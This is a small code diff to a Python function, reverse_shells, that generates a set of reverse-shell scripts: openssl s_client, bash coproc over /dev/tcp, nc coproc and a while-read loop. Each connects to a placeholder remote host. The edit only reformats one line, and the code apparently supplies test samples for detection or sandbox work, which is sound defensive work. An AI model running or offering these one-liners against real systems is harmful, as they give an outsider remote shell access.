@@ -168,7 +168,8 @@ def reverse_shells(directory: Path) -> dict[str, list[str]]:
             f"mkfifo f; openssl s_client -quiet -servername a.example.org -connect {FAR}:{SHELL_TLS} <f 2>&1 | sh >f"
         ),
         "coproc": script(
-            f"exec 3<>/dev/tcp/{FAR}/{SHELL}; coproc sh; exec 4>&${{COPROC[1]}} 5<&${{COPROC[0]}}; {cat} <&3 >&4 & cat <&5 >&3"
+            f"exec 3<>/dev/tcp/{FAR}/{SHELL}; coproc sh; exec 4>&${{COPROC[1]}} 5<&${{COPROC[0]}};"
+            f" {cat} <&3 >&4 & cat <&5 >&3"
         ),
         "coproc of nc": script(f"coproc nc {where}; sh <&${{COPROC[0]}} >&${{COPROC[1]}} 2>&1"),
         "while read": script(f"exec 5<>/dev/tcp/{FAR}/{SHELL}; cat <&5 | while read line; do $line 2>&1 >&5; done"),
